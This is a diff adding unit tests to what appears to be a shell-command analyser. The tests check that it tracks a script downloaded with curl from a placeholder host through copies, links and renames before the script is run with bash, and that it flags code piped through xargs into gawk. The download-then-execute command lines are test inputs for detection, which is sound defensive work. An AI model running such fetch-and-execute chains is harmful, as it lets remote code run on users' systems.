@@ -10,6 +10,23 @@ test.each([
   expect(textEffects(text, { cwd: '/w' })).toMatchObject({ knowledge: 'unknown', why });
 });
 
+test.each([
+  'curl -o a.sh https://x.example; ln a.sh b.sh; bash b.sh',
+  'curl -o a.sh https://x.example; rsync a.sh b.sh; bash b.sh',
+  'curl -o a.sh https://x.example; cp a.sh b.sh; mv b.sh c.sh; bash c.sh',
+])('%s: what was downloaded is followed through copies and links', (text) => {
+  const unseen = textEffects(text, { cwd: '/w' }).effects.filter(({ how }) => how?.includes('unseen'));
+  expect(unseen).toMatchObject([{ kind: 'exec' }]);
+});
+
+test.each([
+  ['xargs -I{} gawk -e {}', true],
+  ["xargs gawk -e '{ print }'", false],
+])('%s: code that xargs reads is not seen: %s', (text, fed) => {
+  const found = textEffects(text, { cwd: '/w' }).effects.some(({ how }) => how?.includes('unseen'));
+  expect(found).toBe(fed);
+});
+
 test.each(['sh f; echo x > f', 'echo x > g; sh f', 'echo x > notes.py; ls'])(
   '%s: what ran before, or elsewhere, is not',
   (text) => {
